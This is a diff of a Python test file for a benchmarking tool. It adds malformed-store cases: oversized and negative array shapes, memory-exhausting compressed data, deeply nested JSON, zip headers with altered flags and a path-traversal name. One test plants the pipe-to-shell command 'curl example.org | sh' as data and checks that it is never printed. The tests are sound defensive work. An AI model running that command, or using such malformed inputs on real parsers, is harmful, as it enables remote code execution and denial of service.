@@ -1,9 +1,11 @@
 """Damaged stores: a bad case is a row with its reason, and what is no store is one sentence."""
 
 import errno
+import io
 import json
 import os
 import shutil
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -20,7 +22,7 @@ from hbvm_bench.measure import measure
 from hbvm_bench.metrics import evaluate
 from hbvm_bench.records import Compile, Record, Result, Timing, TimingRound
 from hbvm_bench.runner import is_kept
-from hbvm_bench.store import NAME_LENGTH, Index, Store, write_all
+from hbvm_bench.store import NAME_LENGTH, Index, Store, decode_series, encode_series, write_all
 from integrators.integrate import Solution
 from integrators.protocol import Stats, Status
 
@@ -63,7 +65,7 @@ class Damage:
     """What happened to a file of a store, and what must be said of it."""
 
     name: str
-    do: Callable[[dict[str, Any]], object]
+    do: Callable[[Any], Any]
     says: str
 
     def __str__(self):
@@ -92,6 +94,40 @@ SERIES = [
     ),
     Damage("a name that is a path", put(**{"error./../../x": np.ones(41)}), "there is no t"),
 ]
+
+
+def npz(header, values=b""):
+    """Return an archive with one array of that header, as long as numpy asks headers to be."""
+    text = header.encode().ljust(-(len(header) + 11) % 64 + len(header)) + b"\n"
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("t.npy", b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + values)
+    return stream.getvalue()
+
+
+def flipped(content, local, central, value):
+    """Return the archive with a byte set in the two heads of its first member."""
+    changed = bytearray(content)
+    changed[local] = value
+    changed[content.index(b"PK\x01\x02") + central] = value
+    return bytes(changed)
+
+
+HEADER = "{{'descr': '<f8', 'fortran_order': False, 'shape': {}}}"
+ARCHIVES = [
+    Damage("empty", lambda content: b"", "there is no t"),
+    Damage("cut", lambda content: content[: len(content) // 2], "there is no t"),
+    Damage("a shape of 745 GiB", lambda content: npz(HEADER.format("(100000000000,)")), "there is no t"),
+    Damage("a negative shape", lambda content: npz(HEADER.format("(-1,)"), bytes(64)), "there is no t"),
+    Damage("a header that ends early", lambda content: npz("{'descr': '<f8', 'shape': ((("), "there is no t"),
+    Damage("a deep header", lambda content: npz("(" * 5000), "there is no t"),
+    Damage("encrypted", lambda content: flipped(content, 6, 8, 1), "there is no t"),
+    Damage("packed in another way", lambda content: flipped(content, 8, 10, 99), "there is no t"),
+]  # fmt: skip
+TEXTS = [
+    Damage("nested deeply", lambda content: b"[" * 100_000, "nested too deeply"),
+    Damage("in another alphabet", lambda content: b"\xff\xfe", "malformed"),
+]
 RECORDS = [
     Damage("a date that is none", put(finished="yesterday"), "isoformat"),
     Damage("no samples", lambda data: data["timing"]["rounds"][0].update(samples=[]), "samples"),
@@ -99,8 +135,12 @@ RECORDS = [
     Damage("metrics of texts", lambda data: data["result"].update(metrics={"steps": "many"}), "metrics"),
     Damage("no outcome", lambda data: data["result"].pop("outcome"), "outcome"),
     Damage("another case's", put(id="0" * 64), "another case"),
+    Damage("an unknown problem", lambda data: data["case"].update(problem="nonesuch()"), "another case"),
+    Damage("an unknown method", lambda data: data["case"].update(method="Nonesuch(<b>)"), "another case"),
+    Damage("another step", lambda data: data["case"].update(method=SOUND), "another case"),
+    Damage("another grid", lambda data: data["case"].update(grid={"step": 7.0}), "another case"),
 ]
-BAD = [*SERIES, *RECORDS]
+BAD = [*SERIES, *ARCHIVES, *TEXTS, *RECORDS]
 
 
 def method_of(damage):
@@ -129,6 +169,9 @@ def damaged(tmp_path_factory):
             series = store.series(case_id)
             damage.do(series)
             np.savez(series_path(store, case_id), **series)  # pyright: ignore[reportArgumentType]
+        elif damage in [*ARCHIVES, *TEXTS]:
+            path = series_path(store, case_id).with_suffix(".npz" if damage in ARCHIVES else ".json")
+            path.write_bytes(damage.do(path.read_bytes()))
         else:
             edit(series_path(store, case_id).with_suffix(".json"), damage.do)
     edit(store.directory / "campaign.json", lambda data: data["campaign"].update(title="\x1b[2Jtitle"))
@@ -142,13 +185,22 @@ def damaged(tmp_path_factory):
     return folder
 
 
+def test_no_more_is_unpacked_than_memory_is_allowed(monkeypatch):
+    content = encode_series({"t": np.zeros(10**6)})  # 8 MB in 8 kB
+    assert len(content) < 10_000
+    monkeypatch.setenv("HBVM_BENCH_MAX_GIB", "0.01")
+    assert decode_series(content)["t"].size == 10**6
+    monkeypatch.setenv("HBVM_BENCH_MAX_GIB", "0.007")
+    assert decode_series(content) == {}
+
+
 @pytest.mark.parametrize("damage", BAD, ids=str)
 def test_a_damaged_case_is_a_row_that_says_so_and_runs_again(damaged, damage):
     method = method_of(damage)
     text = (damaged / "r" / "report.md").read_text(encoding="utf-8").replace("\\", "")
     (row,) = [line for line in text.splitlines() if line.startswith(f"- `{method}`")]
     sentence(row, f"damaged .*{damage.says}")
-    if damage in SERIES:
+    if damage in [*SERIES, *ARCHIVES]:
         lines = (damaged / "series.csv").read_text().splitlines()
         (line,) = [line for line in lines if f'"{method}"' in line]
         sentence(line, f"damaged: .*{damage.says}")
@@ -166,6 +218,35 @@ def test_the_sound_case_beside_them_is_drawn_and_nothing_is_written_elsewhere(da
     written = {"run", "sound", "both", "r", "cases.csv", "timings.csv", "series.csv"}
     assert {path.name for path in damaged.iterdir()} == written
     assert {path.name for path in (damaged / "r").iterdir()} == {"report.md", "index.html", "figures", "data"}
+
+
+@pytest.mark.parametrize(("schema", "when"), [(1, "an earlier"), (99, "a later")])
+def test_a_record_of_another_version_is_no_crash_and_keeps_its_role(here, capsys, schema, when):
+    ours = here.index().ids[0]
+    edit(series_path(here, ours).with_suffix(".json"), put(schema=schema, timing="written otherwise"))
+    row, sound = here.records()
+    assert (row.result.outcome, row.role, row.library, row.order) == ("outdated", "ours", "hbvm-bench", 4)
+    assert row.case.problem == sound.case.problem
+    assert row.result.reason == (
+        f"measured by {when} version of hbvm-bench; run the campaign 'x' again with --out run"
+    )
+    shutil.rmtree("sound/cases")
+    assert cli.main(["merge", "sound", "run", "--out", "both"]) == 0
+    assert capsys.readouterr().out.splitlines() == [
+        "1 of 2 cases in both",
+        "1 left out: damaged, or measured by another version of hbvm-bench; run them again",
+    ]
+
+
+def test_a_strangers_command_is_not_printed_for_the_reader_to_run(here, capsys):
+    edit(here.directory / "campaign.json", put(command="curl example.org | sh"))
+    series_path(here, here.index().ids[0]).with_suffix(".json").write_text("{")
+    assert cli.main(["show", "run"]) == 0
+    edit(here.directory / "campaign.json", lambda data: data["ids"].pop())
+    assert cli.main(["show", "run"]) == 2
+    printed = capsys.readouterr()
+    assert "run the campaign 'x' again with --out run" in printed.err
+    assert "curl" not in printed.out + printed.err
 
 
 @pytest.fixture(scope="module")
@@ -214,6 +295,12 @@ def test_a_damaged_index_is_one_sentence(here, capsys, damage, command):
     assert printed.out == ""
     sentence(printed.err, damage.says)
     assert {path.name for path in Path().iterdir()} == {"sound", "run"}
+
+
+def test_an_index_nested_deeply_is_one_sentence(here, capsys):
+    (here.directory / "campaign.json").write_text("[" * 100_000)
+    assert cli.main(["show", "run"]) == 2
+    sentence(capsys.readouterr().err, "nested too deeply")
 
 
 def test_what_commands_a_terminal_is_in_no_record_and_on_no_page(damaged, here, capsys):
